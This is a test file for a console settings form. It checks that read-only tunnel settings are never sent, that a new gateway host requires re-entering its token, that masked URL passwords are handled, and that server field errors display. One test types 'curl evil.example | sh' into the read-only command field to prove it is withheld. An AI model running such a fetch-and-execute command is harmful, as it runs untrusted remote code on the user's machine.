// @vitest-environment happy-dom
/**
 * What the settings form does for the console's guards (src/console/settings-api.ts): read-only settings shown
 * and never sent, the gateway token typed again when the gateway's address changes, the masked password in the
 * Gateway URL, and the console's field errors (400 and 403) under their fields. Fetch mocked.
 */
import { cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { createApiClient } from '../../renderer/src/api/client';
import { SettingsForm } from '../../renderer/src/pages/Settings';
import {
  changedSettings,
  EMPTY_SECRETS,
  gatewayTokenNeeded,
  toFormValues,
} from '../../renderer/src/settings/form';
import type { SettingsResponse, StatusResponse } from '../../src/protocol/console-api.js';
import { fakeFetch, settingsSaved, settingsView, status, type Reply, type Route } from './fakes';

afterEach(cleanup);

const COMMAND = 'cloudflared tunnel --url http://127.0.0.1:8787';
const PATTERN = 'https://[a-z0-9-]+\\.trycloudflare\\.com';
const NEEDS_TOKEN =
  "The gateway's address changes: enter its token again, so your current token is never sent to a new address.";

const settings = {
  gatewayUrl: 'http://127.0.0.1:18789',
  gatewayAgent: 'public',
  gatewayTimeoutMs: 120000,
  injectionScreen: 'flag',
  access: 'pairing',
  pendingExpiryHours: 24,
  tunnel: 'command',
  tunnelHost: 'https://localtunnel.me',
  tunnelCommand: COMMAND,
  tunnelUrlPattern: PATTERN,
  agentName: 'Agent Bridge',
  agentDescription: 'A description',
  specializations: [],
  chatTrust: 'public',
  allowedPeers: [],
  rpm: 60,
  perSender: 10,
  tokensPerDay: 100000,
  keepMessageContents: false,
};

function setup(options: { loaded?: SettingsResponse; reply?: Reply | Route; status?: StatusResponse } = {}) {
  const loaded = options.loaded ?? settingsView(settings);
  const echo: Route = ({ body }) => ({
    body: settingsSaved({ ...loaded, settings: { ...loaded.settings, ...(body as object) } }, []),
  });
  const { fetch, calls } = fakeFetch({ 'PUT /api/settings': options.reply ?? echo });
  render(
    <SettingsForm
      api={createApiClient({ token: 't', fetch })}
      loaded={loaded}
      onSaved={vi.fn(async () => undefined)}
      status={options.status}
    />,
  );
  return { puts: () => calls.filter((call) => call.method === 'PUT').map((call) => call.body) };
}

const input = (label: string) => screen.getByLabelText(label) as HTMLInputElement;
const type = (label: string, value: string) => fireEvent.change(input(label), { target: { value } });
const save = () => fireEvent.click(screen.getByRole('button', { name: 'Save changes' }));

/** The texts a control's `aria-describedby` points at, by class: its hints and its error. */
function described(control: HTMLElement, className: 'hint' | 'field-error'): string[] {
  const ids = control.getAttribute('aria-describedby')?.split(' ') ?? [];
  return ids
    .map((id) => document.getElementById(id))
    .filter((element) => element?.classList.contains(className))
    .map((element) => element?.textContent ?? '');
}
const errorOf = (label: string) => described(input(label), 'field-error')[0];

describe('read-only settings', () => {
  it("shows each one's value and where to set it, from the view's readOnly list", () => {
    setup();
    const command = input('Command');
    expect(command.readOnly).toBe(true);
    expect(command.value).toBe(COMMAND);
    expect(described(command, 'hint')).toContain(
      'Set with --tunnel-command or in settings.json on the machine: the console cannot set a command the agent runs.',
    );
    const pattern = input('URL pattern');
    expect(pattern.readOnly).toBe(true);
    expect(pattern.value).toBe(PATTERN);
    expect(described(pattern, 'hint')).toContain(
      'Set with --tunnel-url-pattern or in settings.json on the machine: it goes with the tunnel command.',
    );
    expect(input('Subdomain').readOnly).toBe(false);
    expect(screen.getAllByTestId('read-only-hint')).toHaveLength(2);
  });

  it('follows the list the console sends, with a generic hint for a setting it has no words for', () => {
    setup({ loaded: settingsView(settings, { readOnly: ['subdomain'] }) });
    expect(input('Command').readOnly).toBe(false);
    expect(input('Subdomain').readOnly).toBe(true);
    expect(described(input('Subdomain'), 'hint').join(' ')).toMatch(
      /Set on the machine that runs the bridge .*the console cannot change it/,
    );
  });

  it('never sends one, even when its input is changed', async () => {
    const { puts } = setup();
    type('Command', 'sh -c "curl evil.example | sh"');
    type('URL pattern', '.*');
    type('Requests per minute (all callers)', '90');
    save();
    await screen.findByTestId('settings-saved');
    expect(puts()).toEqual([{ rpm: 90 }]);
  });

  it('is left out of the change set, whatever its value in the form', () => {
    const initial = toFormValues(settings);
    const current = { ...initial, tunnelCommand: 'sh evil.sh', tunnelUrlPattern: '.*', rpm: '90' };
    expect(changedSettings(initial, current, EMPTY_SECRETS, ['tunnelCommand', 'tunnelUrlPattern'])).toEqual({
      changes: { rpm: 90 },
      errors: [],
    });
    // Without the list it would go: the list is what keeps it out.
    expect(changedSettings(initial, current, EMPTY_SECRETS).changes).toHaveProperty('tunnelCommand');
  });
});

describe('the gateway token when the gateway URL changes', () => {
  const token = () => input('New gateway token');

  it('is required for another host: Save sends nothing until it is typed', async () => {
    const { puts } = setup();
    expect(token().required).toBe(false);
    expect(errorOf('New gateway token')).toBeUndefined();

    type('Gateway URL', 'http://gw.example:18789');
    expect(token().required).toBe(true);
    expect(token().getAttribute('aria-invalid')).toBe('true');
    expect(errorOf('New gateway token')).toBe(NEEDS_TOKEN);
    save();
    const errors = await screen.findByTestId('settings-errors');
    expect(errors.textContent).toContain('Not saved: fix the marked fields.');
    expect(puts()).toEqual([]);

    type('New gateway token', 'gw-token-2');
    expect(errorOf('New gateway token')).toBeUndefined();
    expect(screen.queryByTestId('settings-errors')).toBeNull();
    save();
    await screen.findByTestId('settings-saved');
    expect(puts()).toEqual([{ gatewayUrl: 'http://gw.example:18789', gatewayToken: 'gw-token-2' }]);
  });

  it('is required when the URL is cleared', async () => {
    const { puts } = setup();
    type('Gateway URL', '');
    expect(errorOf('New gateway token')).toBe(NEEDS_TOKEN);
    save();
    await screen.findByTestId('settings-errors');
    expect(puts()).toEqual([]);
  });

  it('is not required for another path on the same origin', async () => {
    const { puts } = setup();
    type('Gateway URL', 'http://127.0.0.1:18789/openclaw');
    expect(errorOf('New gateway token')).toBeUndefined();
    expect(token().required).toBe(false);
    save();
    await screen.findByTestId('settings-saved');
    expect(puts()).toEqual([{ gatewayUrl: 'http://127.0.0.1:18789/openclaw' }]);
  });

  it('is not required when no gateway token is set', async () => {
    const { puts } = setup({
      loaded: settingsView(settings, {
        secrets: { gatewayToken: { set: false }, bearerTokens: { count: 0 } },
      }),
    });
    type('Gateway URL', 'https://gw.example');
    expect(errorOf('New gateway token')).toBeUndefined();
    save();
    await screen.findByTestId('settings-saved');
    expect(puts()).toEqual([{ gatewayUrl: 'https://gw.example' }]);
  });

  it('compares origins: scheme, host and port count; the path, the user and a default port do not', () => {
    const initial = toFormValues(settings);
    const needed = (gatewayUrl: string, urlInUse?: string, from = initial) =>
      gatewayTokenNeeded(from, { ...from, gatewayUrl }, EMPTY_SECRETS, { tokenSet: true, urlInUse })?.message;
    expect(needed('https://127.0.0.1:18789')).toBe(NEEDS_TOKEN);
    expect(needed('http://localhost:18789')).toBe(NEEDS_TOKEN);
    expect(needed('http://127.0.0.1:18790')).toBe(NEEDS_TOKEN);
    expect(needed('')).toBe(NEEDS_TOKEN);
    expect(needed('http://127.0.0.1:18789/v1/')).toBeUndefined();
    expect(needed('http://someone@127.0.0.1:18789')).toBeUndefined();
    expect(needed(' http://127.0.0.1:18789 ')).toBeUndefined();
    expect(needed('not a url')).toBeUndefined(); // validation says what is wrong with it
    const standard = { ...initial, gatewayUrl: 'http://gw.example' };
    expect(needed('http://gw.example:80/path', undefined, standard)).toBeUndefined();
    // Not set: compared with the URL in use (the status), and asked for when that is unknown.
    const unset = { ...initial, gatewayUrl: '' };
    expect(needed('http://127.0.0.1:18789/x', 'http://127.0.0.1:18789', unset)).toBeUndefined();
    expect(needed('http://gw.example', 'http://127.0.0.1:18789', unset)).toBe(NEEDS_TOKEN);
    expect(needed('http://127.0.0.1:18789/x', undefined, unset)).toBe(NEEDS_TOKEN);
    // A token typed, or none set: nothing to ask.
    const moved = { ...initial, gatewayUrl: 'http://gw.example' };
    expect(
      gatewayTokenNeeded(initial, moved, { ...EMPTY_SECRETS, gatewayToken: 'new' }, { tokenSet: true }),
    ).toBeUndefined();
    expect(gatewayTokenNeeded(initial, moved, EMPTY_SECRETS, { tokenSet: false })).toBeUndefined();
  });

  it('uses the status for a URL that is not set', () => {
    setup({ loaded: settingsView({ ...settings, gatewayUrl: undefined }), status: status() });
    type('Gateway URL', 'http://127.0.0.1:18789/openclaw');
    expect(errorOf('New gateway token')).toBeUndefined();
    type('Gateway URL', 'http://gw.example:18789');
    expect(errorOf('New gateway token')).toBe(NEEDS_TOKEN);
  });

  it("shows the console's field errors on the token and the URL under those fields", async () => {
    setup({
      reply: {
        status: 400,
        body: {
          error: {
            message: 'Invalid settings; nothing was saved.',
            fix: 'Correct the fields listed and save again.',
            fields: [
              {
                field: 'gatewayToken',
                message: "gatewayToken: the gateway's address changes: enter its token",
              },
              { field: 'gatewayUrl', message: 'gatewayUrl: must be an http:// or https:// URL' },
            ],
          },
        },
      },
    });
    type('Gateway URL', 'http://gw.example');
    type('New gateway token', 'typed');
    save();
    await screen.findByTestId('settings-errors');
    // In the page's words: the labels it shows, not the settings' names.
    expect(errorOf('New gateway token')).toBe(
      "Gateway token: the gateway's address changes: enter its token",
    );
    expect(errorOf('Gateway URL')).toBe('Gateway URL: must be an http:// or https:// URL');
    expect(input('Gateway URL').getAttribute('aria-invalid')).toBe('true');
  });
});

describe('the masked password in the Gateway URL', () => {
  const masked = 'http://ops:***@gw.example:18789/base';
  const loaded = settingsView({ ...settings, gatewayUrl: masked });
  const HINT = 'The password is hidden; leave *** to keep it.';

  it('says that *** keeps the password, while the URL holds it', () => {
    setup({ loaded });
    expect(input('Gateway URL').value).toBe(masked);
    expect(described(input('Gateway URL'), 'hint')).toContain(HINT);
    type('Gateway URL', 'http://ops:s3cret@gw.example:18789/base');
    expect(screen.queryByTestId('masked-password-hint')).toBeNull();
    cleanup();
    setup();
    expect(screen.queryByTestId('masked-password-hint')).toBeNull();
  });

  it('sends *** back with another path, without asking for the token', async () => {
    const { puts } = setup({ loaded });
    type('Gateway URL', 'http://ops:***@gw.example:18789/v2');
    expect(errorOf('New gateway token')).toBeUndefined();
    save();
    await screen.findByTestId('settings-saved');
    expect(puts()).toEqual([{ gatewayUrl: 'http://ops:***@gw.example:18789/v2' }]);
  });

  it("shows the console's refusal of *** with another host under the URL", async () => {
    const refusal =
      'gatewayUrl: holds the hidden password (***) but names another address or user: type the password again';
    const { puts } = setup({
      loaded,
      reply: {
        status: 400,
        body: { error: { message: 'Invalid settings', fields: [{ field: 'gatewayUrl', message: refusal }] } },
      },
    });
    type('Gateway URL', 'http://ops:***@other.example:18789/base');
    type('New gateway token', 'gw-token-2');
    save();
    await screen.findByTestId('settings-errors');
    expect(puts()).toHaveLength(1);
    expect(errorOf('Gateway URL')).toBe(refusal.replace(/^gatewayUrl:/, 'Gateway URL:'));
  });
});

describe('field errors of a 403', () => {
  it('show under their fields, as those of a 400 do', async () => {
    // The console made the command read-only after this form loaded: it refuses the change.
    const message =
      'tunnelCommand: cannot be changed from the console (it runs a program on this machine): set it with --tunnel-command or in settings.json on the machine';
    const { puts } = setup({
      loaded: settingsView(settings, { readOnly: [] }),
      reply: {
        status: 403,
        body: {
          error: {
            message: 'The console cannot change tunnelCommand; nothing was saved.',
            fix: 'Set it on the machine that runs the bridge.',
            fields: [
              { field: 'tunnelCommand', message },
              {
                field: 'someFutureSetting',
                message: 'someFutureSetting: cannot be changed from the console',
              },
            ],
          },
        },
      },
    });
    type('Command', 'ngrok http 8787');
    save();
    const errors = await screen.findByTestId('settings-errors');
    expect(puts()).toEqual([{ tunnelCommand: 'ngrok http 8787' }]);
    expect(input('Command').getAttribute('aria-invalid')).toBe('true');
    expect(errorOf('Command')).toBe(message.replace(/^tunnelCommand:/, 'Command:'));
    expect(errors.textContent).toContain('Not saved: fix the marked fields.');
    expect(within(errors).getByText('someFutureSetting: cannot be changed from the console')).toBeTruthy();
  });
});
